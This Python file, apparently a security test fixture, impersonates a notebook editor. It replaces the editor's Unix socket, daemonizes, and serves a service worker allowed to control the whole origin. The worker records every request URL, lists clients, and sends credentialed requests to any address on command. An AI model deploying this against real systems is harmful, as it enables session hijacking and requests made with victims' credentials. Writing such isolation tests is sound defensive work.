# SPDX-License-Identifier: Apache-2.0
"""What a hostile notebook serves in its editor's place: a page, and a service worker that may have the whole origin.

It runs in a container, whole, as the text behind ``python3 -c``, and stays.
"""

from __future__ import annotations

import os
import socketserver
from http.server import BaseHTTPRequestHandler
from pathlib import Path

SOCKET = "/run/editor/editor.sock"
WORKER = """
const seen = [];
self.addEventListener("install", event => event.waitUntil(self.skipWaiting()));
self.addEventListener("activate", event => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", event => {
    seen.push(event.request.url);
    if (event.request.url.endsWith("/made-up")) event.respondWith(new Response("by the worker"));
});
async function tried(work) {
    try { const answer = await work(); return `${answer.type} ${answer.status}`; } catch (error) { return error.name; }
}
self.addEventListener("message", async event => {
    const [word, address] = event.data;
    let said = seen;
    if (word === "clients") {
        said = (await self.clients.matchAll({includeUncontrolled: true, type: "all"})).map(each => each.url);
    } else if (word === "read") {
        said = await tried(() => fetch(address, {credentials: "include"}));
    } else if (word === "write") {
        said = await tried(() => fetch(address, {method: "POST", mode: "no-cors", credentials: "include", body: "{}"}));
    }
    event.ports[0].postMessage(said);
});
"""


class Hostile(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        is_worker = self.path.startswith("/worker.js")
        body = WORKER.encode() if is_worker else b"<!doctype html><title>hostile</title>"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def address_string(self) -> str:
        return ""

    def log_message(self, *_: object) -> None:
        pass


class Listener(socketserver.ThreadingUnixStreamServer):
    daemon_threads = True


def main() -> None:
    """Take the editor's place, in a process of its own."""
    Path(SOCKET).unlink(missing_ok=True)
    server = Listener(SOCKET, Hostile)
    Path(SOCKET).chmod(0o660)
    if os.fork():
        return
    os.setsid()
    nothing = os.open(os.devnull, os.O_RDWR)
    for fd in range(3):
        os.dup2(nothing, fd)
    server.serve_forever()


if __name__ == "__main__":
    main()
